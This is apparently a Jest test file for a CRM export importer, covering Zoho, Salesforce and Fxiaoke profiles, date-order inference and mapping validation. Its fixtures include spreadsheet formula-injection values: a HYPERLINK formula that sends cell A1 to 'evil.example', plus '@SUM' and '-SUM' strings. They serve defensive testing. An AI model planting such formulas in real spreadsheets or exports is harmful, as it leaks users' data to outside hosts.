/**
 * Each built-in profile against its hand-written fixture: recognition, then the records and the
 * report, with the expected values read off the fixture files by hand.
 */
import fs from "fs";
import path from "path";
import {
  CrmTable,
  NormalizedImport,
  looksLikeHeader,
  mappingFromChoices,
  normalizeRecords,
  recognize,
} from "../../../src/generators/crm";
import { readTable } from "../../../src/hosts/xlsx/read-table";
import { parseCrmMapping } from "../../../src/schemas/crm-mapping";
import type { CrmMapping } from "../../../src/schemas/crm-mapping";
import { parseRosterCsv } from "../../../src/schemas/roster";
import type { Rep } from "../../../src/schemas/roster";

const FIXTURES = path.join(__dirname, "../../fixtures/crm");
// 2027-01-01 is serial 46388 (see normalizers.test.ts for the arithmetic).
const JAN1 = 46388;
const day = (month: number, d: number) => JAN1 + [0, 31, 59, 90][month - 1] + d - 1;

function roster(): Rep[] {
  const r = parseRosterCsv(fs.readFileSync(path.join(FIXTURES, "roster.csv"), "utf8"), "roster.csv");
  if (!r.ok) throw new Error(JSON.stringify(r.issues));
  return r.value;
}

async function table(name: string): Promise<CrmTable> {
  const r = await readTable(fs.readFileSync(path.join(FIXTURES, name)), {
    fileName: name,
    isHeader: (c) => looksLikeHeader(c),
  });
  if (!r.ok) throw new Error(r.error.en);
  return r.table;
}

function mappingFile(name: string): CrmMapping {
  const r = parseCrmMapping(JSON.parse(fs.readFileSync(path.join(FIXTURES, name), "utf8")), name);
  if (!r.ok) throw new Error(JSON.stringify(r.issues));
  return r.value;
}

async function load(name: string, mapping?: CrmMapping): Promise<NormalizedImport> {
  const t = await table(name);
  const rec = recognize(t, { mapping, file: name });
  if (!rec.ok) throw new Error(JSON.stringify(rec.issues));
  return normalizeRecords(t, rec.mapping, roster(), { file: name });
}

const errors = (imp: NormalizedImport) =>
  imp.issues.filter((i) => i.severity === "error").map((i) => [i.row, i.field, i.value]);
const byRow = (imp: NormalizedImport, row: number) => imp.records.find((r) => r.row === row)!;

describe("Zoho CRM Deals", () => {
  it("is recognised by its headers; owners map through the mapping's owners", async () => {
    const imp = await load("zoho-deals.csv", mappingFile("owners.mapping.json"));
    expect(imp.profile.id).toBe("zoho-deals");
    expect(imp.kind).toBe("deals");
    expect(imp.source).toBe("profile");
    expect(imp.rowsRead).toBe(11);
    expect(imp.records.map((r) => r.row)).toEqual([2, 3, 4, 5, 6, 7, 11, 12]);
    expect(errors(imp)).toEqual([
      [8, "Deal Owner", ""],
      [9, "Amount", "TBD"],
      [10, "Closing Date", ""],
    ]);
    // "Zhang Qiang" -> 张强 through owners.mapping.json; Mark Davis is not on the roster.
    expect(byRow(imp, 5)).toMatchObject({
      owner: "张强",
      ownerExported: "Zhang Qiang",
      team: "华南",
      outcome: "lost",
    });
    expect(imp.unknownOwners).toEqual([{ owner: "Mark Davis", rows: 1, amount: 5000, firstRow: 7 }]);
    expect(byRow(imp, 2)).toMatchObject({
      amount: 12000,
      closeDate: day(1, 15),
      probability: 1,
      createdDate: JAN1 - 60,
    });
    expect(byRow(imp, 5).amount).toBe(12500.5);
    expect(byRow(imp, 12).outcome).toBe("lost"); // Closed Lost to Competition
    expect(byRow(imp, 4)).toMatchObject({
      outcome: "open",
      funnelStage: "Negotiation/Review",
      probability: 0.75,
    });
    // The Type column decides new business: Acme (existing business) is not a new customer, Globex is.
    expect(byRow(imp, 2).newCustomer).toBe(0);
    expect(byRow(imp, 3).newCustomer).toBe(1);
    expect(byRow(imp, 4).deal).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Open deal")');
    expect(byRow(imp, 11).deal).toBe("Tab Corp deal");
    expect(imp.dateOrder.how).toBe("unused");
    expect(imp.unusedHeaders).toEqual(["Record Id", "Expected Revenue", "Next Step"]);
  });
});

describe("Salesforce opportunity report", () => {
  it("reads US dates (1/13/2027 shows month-first), USD amounts, owners by email; footer rows are listed", async () => {
    const imp = await load("salesforce-opportunities.csv");
    expect(imp.profile.id).toBe("salesforce-opportunities");
    expect(imp.dateOrder).toEqual({ order: "mdy", how: "evidence" });
    expect(byRow(imp, 2)).toMatchObject({
      owner: "Emily Chen",
      amount: 45000,
      closeDate: day(1, 13),
      outcome: "won",
    });
    expect(byRow(imp, 3)).toMatchObject({ amount: 18500, closeDate: day(3, 2) });
    expect(byRow(imp, 4)).toMatchObject({
      owner: "王芳",
      ownerExported: "wangfang@acme.cn",
      funnelStage: "Value Proposition",
    });
    expect(byRow(imp, 7).amount).toBe(61250.75);
    // The blank line 8 is skipped; the "Total" and copyright lines cannot be read and are listed.
    expect(errors(imp)).toEqual([
      [9, "Stage", ""],
      [10, "Stage", ""],
    ]);
    expect(imp.unknownOwners.map((o) => o.owner)).toEqual(["Li Wei"]);
    expect(imp.currencies).toEqual(["USD"]);
    expect(imp.stages.map((s) => s.name)).toEqual(["Prospecting", "Value Proposition", "Negotiation/Review"]);
  });
});

describe("Fxiaoke 商机", () => {
  it("reads Chinese headers, ¥ and 万 amounts, Chinese dates, status over stage, the stage a deal was lost at", async () => {
    const imp = await load("fxiaoke-opportunities.csv");
    expect(imp.profile.id).toBe("fxiaoke-opportunities");
    expect(errors(imp)).toEqual([
      [14, "负责人", ""],
      [15, "商机金额", "待定"],
      [19, "预计结单日期", ""],
    ]);
    expect(byRow(imp, 2)).toMatchObject({
      owner: "李伟",
      amount: 120000,
      closeDate: day(1, 15),
      outcome: "won",
    });
    expect(byRow(imp, 3)).toMatchObject({ amount: 125000, closeDate: day(2, 8) });
    expect(byRow(imp, 4)).toMatchObject({ outcome: "lost", funnelStage: "方案/报价", probability: 0.6 });
    expect(byRow(imp, 6).amount).toBe(60000);
    expect(byRow(imp, 11).amount).toBe(300000);
    expect(byRow(imp, 12)).toMatchObject({ outcome: "lost", funnelStage: null }); // lost, stage "输单" says not where
    expect(byRow(imp, 18)).toMatchObject({ closeDate: null, nextContact: day(3, 1), deal: "@SUM(1+1)" });
    // 上海云帆科技 won twice: only the first (row 2) is a new customer.
    expect(byRow(imp, 2).newCustomer).toBe(1);
    expect(byRow(imp, 17).newCustomer).toBe(0);
    expect(imp.unknownOwners).toEqual([{ owner: "赵敏", rows: 1, amount: 20000, firstRow: 16 }]);
    expect(imp.stages).toEqual([
      { name: "验证客户", source: "given" },
      { name: "需求确定", source: "given" },
      { name: "方案/报价", source: "given" },
      { name: "谈判审核", source: "given" },
    ]);
    expect(imp.repsWithoutRecords).toEqual(["Emily Chen"]);
  });
});

describe("Fxiaoke 销售订单 (GBK)", () => {
  it("reads orders: won unless voided or pending, collections, negative amounts in brackets, ids kept as text", async () => {
    const imp = await load("fxiaoke-orders.gbk.csv");
    expect(imp.profile.id).toBe("fxiaoke-orders");
    expect(imp.kind).toBe("orders");
    expect(errors(imp)).toEqual([
      [11, "订单金额", "一万"],
      [12, "下单日期", "2027-13-01"],
    ]);
    expect(byRow(imp, 2)).toMatchObject({
      amount: 88000,
      collected: 88000,
      outcome: "won",
      closeDate: day(1, 10),
    });
    expect(byRow(imp, 3)).toMatchObject({ amount: 65000, collected: 30000, closeDate: day(2, 3) });
    expect(byRow(imp, 5)).toMatchObject({ amount: -5000, collected: -5000 });
    expect(byRow(imp, 7).outcome).toBe("lost"); // 已作废
    expect(byRow(imp, 8).outcome).toBe("open"); // 待确认
    expect(byRow(imp, 9)).toMatchObject({ deal: "00123", account: "-SUM(A1:A9)" });
    expect(imp.unknownOwners.map((o) => o.owner)).toEqual(["钱多多"]);
    expect(imp.stages).toEqual([]);
  });
});

describe("generic profile", () => {
  it("recognises Chinese alias headers in a tab-separated file, with 万元 marked in the header", async () => {
    const imp = await load("generic-deals.tsv");
    expect(imp.profile.id).toBe("generic");
    expect(imp.records.map((r) => [r.owner, r.amount, r.outcome])).toEqual([
      ["李伟", 125000, "won"],
      ["王芳", 80000, "lost"],
      ["张强", 300000, "open"],
      ["张强", 12000000, "won"],
    ]);
    expect(imp.stages).toEqual([{ name: "方案/报价", source: "found" }]);
    expect(imp.currencies).toEqual(["CNY"]);
  });

  it("refuses to choose between two columns that both could be the amount", () => {
    const t: CrmTable = {
      header: ["Owner", "Amount", "Deal Value", "Stage", "Close Date"],
      rows: [{ row: 2, cells: ["李伟", "1", "2", "Won", "2027-01-01"] }],
    };
    const rec = recognize(t);
    expect(rec.ok).toBe(false);
    if (!rec.ok) {
      expect(rec.issues.map((i) => i.en)).toEqual([
        "several columns could be the Amount (Amount, Deal Value): choose one in the mapping",
      ]);
      expect(rec.step.fields.find((f) => f.field === "amount")).toMatchObject({
        candidates: ["Amount", "Deal Value"],
        suggested: null,
        required: true,
      });
    }
  });
});

describe("unrecognised exports", () => {
  it("get a mapping step: headers, sample values, candidates, never a guess", async () => {
    const t = await table("custom-export.csv");
    const rec = recognize(t, { file: "custom-export.csv" });
    expect(rec.ok).toBe(false);
    if (rec.ok) return;
    expect(rec.issues.map((i) => i.field)).toEqual(["Owner", "Close date", "Stage"]);
    expect(rec.issues[0].zh).toBe("没有负责人列：请在映射中指定");
    expect(rec.step.headers).toEqual([
      "Handled by",
      "Opportunity",
      "Company",
      "Phase",
      "Value (EUR)",
      "Expected close",
      "Opened",
    ]);
    expect(rec.step.samples[0]).toEqual(["Emily Chen", "Emily Chen", "Emily Chen"]);
    const owner = rec.step.fields.find((f) => f.field === "owner")!;
    expect(owner).toMatchObject({
      required: true,
      candidates: [],
      suggested: null,
      label: { en: "Owner", zh: "负责人" },
    });
    expect(rec.step.fields.find((f) => f.field === "amount")!.suggested).toBe("Value (EUR)");
  });

  it("import with a mapping file: day-first dates shown by the data, decimal commas, its own outcome words", async () => {
    const imp = await load("custom-export.csv", mappingFile("custom-export.mapping.json"));
    expect(imp.source).toBe("mapping");
    expect(imp.profile.name.en).toBe("Custom mapping");
    expect(imp.dateOrder).toEqual({ order: "dmy", how: "evidence" });
    expect(imp.records.map((r) => [r.amount, r.outcome, r.closeDate])).toEqual([
      [1234.5, "won", day(1, 31)],
      [12000, "open", day(3, 28)],
      [800, "lost", day(2, 14)],
      [5500, "open", day(3, 30)],
    ]);
    expect(imp.stages).toEqual([
      { name: "Demo", source: "given" },
      { name: "Offer", source: "given" },
    ]);
    expect(imp.currencies).toEqual(["EUR"]);
  });

  it("the pane's choices make the same mapping; a column that is not there is named", async () => {
    const t = await table("custom-export.csv");
    const mapping = mappingFromChoices(
      { owner: "Handled by", amount: "Value (EUR)", closeDate: "Expected close", stage: "Phase", deal: null },
      { decimalComma: true, won: ["Signed"], lost: ["Dropped"] },
    );
    expect(mapping.columns).toEqual({
      owner: "Handled by",
      amount: "Value (EUR)",
      closeDate: "Expected close",
      stage: "Phase",
    });
    const rec = recognize(t, { mapping });
    expect(rec.ok).toBe(true);
    const bad = recognize(t, {
      mapping: { columns: { ...mapping.columns, owner: "Sales rep" } },
      file: "custom-export.csv",
    });
    expect(bad.ok).toBe(false);
    if (!bad.ok) {
      expect(bad.issues[0]).toMatchObject({ file: "custom-export.csv", field: "columns.owner" });
      expect(bad.issues[0].en).toMatch(/^names a column "Sales rep" that custom-export.csv does not have/);
    }
  });

  it("mapping files are validated with bilingual messages", () => {
    const r = parseCrmMapping({ columns: { owner: "A", amount: "A", colour: "B" } }, "map.json");
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.issues[0]).toMatchObject({ file: "map.json", field: "columns" });
      expect(r.issues.map((i) => i.zh).join(" ")).toMatch(/colour|两个字段指向了同一列/);
    }
    const unknown = recognize(
      { header: ["Owner"], rows: [] },
      { mapping: { profile: "hubspot", columns: {} } },
    );
    expect(unknown.ok).toBe(false);
    if (!unknown.ok) expect(unknown.issues[0].en).toMatch(/unknown profile "hubspot"/);
  });
});

describe("looksLikeHeader", () => {
  it("knows each fixture's header and not a report title", async () => {
    for (const name of [
      "zoho-deals.csv",
      "salesforce-opportunities.csv",
      "fxiaoke-opportunities.csv",
      "fxiaoke-orders.gbk.csv",
      "generic-deals.tsv",
    ]) {
      expect(looksLikeHeader((await table(name)).header)).toBe(true);
    }
    expect(looksLikeHeader(["Opportunity Pipeline Report"])).toBe(false);
    expect(looksLikeHeader(["Filtered By:", "Close Date equals THIS QUARTER"])).toBe(false);
  });
});

describe("warnings: rows kept, values left blank, assumptions said out loud", () => {
  const header = [
    "Owner",
    "Stage",
    "Status",
    "Amount",
    "Close Date",
    "Created Date",
    "Probability",
    "Currency",
  ];
  function warnings(rows: (string | null)[][]): { imp: NormalizedImport; en: string[] } {
    const t: CrmTable = { header, rows: rows.map((cells, i) => ({ row: i + 2, cells })) };
    const rec = recognize(t);
    if (!rec.ok) throw new Error(JSON.stringify(rec.issues));
    const imp = normalizeRecords(t, rec.mapping, roster());
    return {
      imp,
      en: imp.issues
        .filter((i) => i.severity === "warning")
        .map((i) => `${i.row ?? "-"} ${i.field}: ${i.en}`),
    };
  }

  it("dates that show both orders are each read the only way they can be, and reported; 3/1/2027 alone is read by the default and reported", () => {
    const both = warnings([
      ["李伟", "Won", "", "100", "13/1/2027", "", "", ""],
      ["李伟", "Won", "", "100", "1/13/2027", "", "", ""],
    ]);
    // One of each: the column keeps the default (month-first); 13/1/2027 can only be 13 January.
    expect(both.en).toEqual([
      "- Close Date: 1 date(s) can only be day-first (31/1/2027) in a column read month/day: each was read the only way it can be; check the export",
    ]);
    expect(both.imp.records.map((x) => x.closeDate)).toEqual([day(1, 13), day(1, 13)]);
    const ambiguous = warnings([["李伟", "Won", "", "100", "3/1/2027", "", "", ""]]);
    expect(ambiguous.imp.dateOrder).toEqual({ order: "mdy", how: "default" });
    expect(ambiguous.en).toEqual([
      `- Close Date: dates like 3/1/2027 were read as month/day (March 1), the profile's default; set "dateOrder" in the mapping if that is wrong`,
    ]);
    expect(ambiguous.imp.records[0].closeDate).toBe(day(3, 1));
  });

  it("a day-first file is read day-first throughout once one date shows it", () => {
    const r = warnings([
      ["李伟", "Won", "", "100", "3/1/2027", "", "", ""],
      ["李伟", "Won", "", "100", "31/1/2027", "", "", ""],
    ]);
    expect(r.imp.dateOrder).toEqual({ order: "dmy", how: "evidence" });
    expect(r.imp.records.map((x) => x.closeDate)).toEqual([day(1, 3), day(1, 31)]);
    expect(r.en).toEqual([]);
  });

  it("decides the order per column: the majority of its unambiguous dates, never a row lost to a mixed column", () => {
    // Close Date: two day-first (16/02, 25/03), one month-first (2/16), two ambiguous: day-first wins,
    // 2/16/2027 is still 16 February. Created Date: month-first (1/20/2027), so 2/1/2027 is 1 February.
    const r = warnings([
      ["李伟", "Won", "", "100", "16/02/2027", "1/20/2027", "", ""],
      ["李伟", "Won", "", "100", "25/03/2027", "2/1/2027", "", ""],
      ["李伟", "Won", "", "100", "2/16/2027", "", "", ""],
      ["李伟", "Won", "", "100", "01/02/2027", "", "", ""],
      ["李伟", "Lost", "", "100", "3/1/27", "", "", ""],
    ]);
    expect(r.imp.records).toHaveLength(5);
    expect(r.imp.records.map((x) => x.closeDate)).toEqual([
      day(2, 16),
      day(3, 25),
      day(2, 16),
      day(2, 1), // 01/02 day-first: 1 February
      day(1, 3), // 3/1/27 day-first: 3 January
    ]);
    expect(r.imp.records.map((x) => x.createdDate)).toEqual([day(1, 20), day(2, 1), null, null, null]);
    expect(r.imp.dateOrders.map((d) => [d.header, d.order, d.how, d.against])).toEqual([
      ["Close Date", "dmy", "evidence", 1],
      ["Created Date", "mdy", "evidence", 0],
    ]);
    expect(r.en).toEqual([
      "- Close Date: 1 date(s) can only be month-first (1/31/2027) in a column read day/month: each was read the only way it can be; check the export",
    ]);
  });

  it("unreadable optional values are left blank with the row kept; unknown statuses and mixed currencies are reported", () => {
    const r = warnings([
      ["李伟", "Proposal", "Paused", "", "2027-03-01", "soon", "high", "USD"],
      ["李伟", "Proposal", "Paused", "¥100", "2027-03-02", "2027-01-01", "50", "CNY"],
      ["王芳", "Proposal", "", "100", "not yet", "", "", ""],
    ]);
    expect(r.imp.records).toHaveLength(3);
    expect(r.imp.records[0]).toMatchObject({
      amount: null,
      createdDate: null,
      probability: null,
      outcome: "open",
    });
    expect(r.imp.records[2]).toMatchObject({ closeDate: null, outcome: "open" });
    expect(r.en).toEqual([
      "2 Created Date: Created date is not a date: left blank",
      "2 Probability: the probability is not a percentage from 0 to 100: left blank",
      "2 Amount: no amount: the deal counts, its value is blank",
      "4 Close Date: the close date is not a date: left blank",
      "- currency: amounts in several currencies (USD, CNY): the data sheet converts them to USD through the rates table beside its table; fill in the rate of CNY there (until then the KPIs show #N/A, never a sum of different currencies)",
      `- Status: status "Paused" is in no outcome list: counted as open (rows 2, 3); add it to "won", "lost" or "open" in the mapping`,
    ]);
  });
});

describe("an .xlsx report export", () => {
  it("finds the Salesforce header under the report's title rows; date cells become serials", async () => {
    const ExcelJS = (await import("exceljs")).default;
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Opportunity Pipeline");
    ws.addRow(["Opportunity Pipeline"]);
    ws.addRow(["Filtered By:", "Close Date equals THIS QUARTER"]);
    ws.addRow([]);
    ws.addRow(["Opportunity Owner", "Opportunity Name", "Stage", "Amount", "Close Date", "Created Date"]);
    ws.addRow([
      "Emily Chen",
      "Pied Piper",
      "Closed Won",
      45000,
      new Date(Date.UTC(2027, 0, 13)),
      new Date(Date.UTC(2026, 10, 20)),
    ]);
    ws.addRow(["Grand Totals (1 record)", null, null, 45000, null, null]);
    const read = await readTable(Buffer.from(await wb.xlsx.writeBuffer()), {
      isHeader: (c) => looksLikeHeader(c),
    });
    if (!read.ok) throw new Error(read.error.en);
    expect(read.table.headerRow).toBe(4);
    const rec = recognize(read.table);
    if (!rec.ok) throw new Error(JSON.stringify(rec.issues));
    expect(rec.mapping.profile.id).toBe("salesforce-opportunities");
    const imp = normalizeRecords(read.table, rec.mapping, roster());
    expect(imp.records).toHaveLength(1);
    // 2026-11-20 is 42 days before 2027-01-01 (10 of November, 31 of December, 1).
    expect(imp.records[0]).toMatchObject({
      owner: "Emily Chen",
      amount: 45000,
      closeDate: day(1, 13),
      createdDate: JAN1 - 42,
      outcome: "won",
    });
    // The totals line cannot be read: listed, not dropped.
    expect(errors(imp)).toEqual([[6, "Stage", ""]]);
  });
});
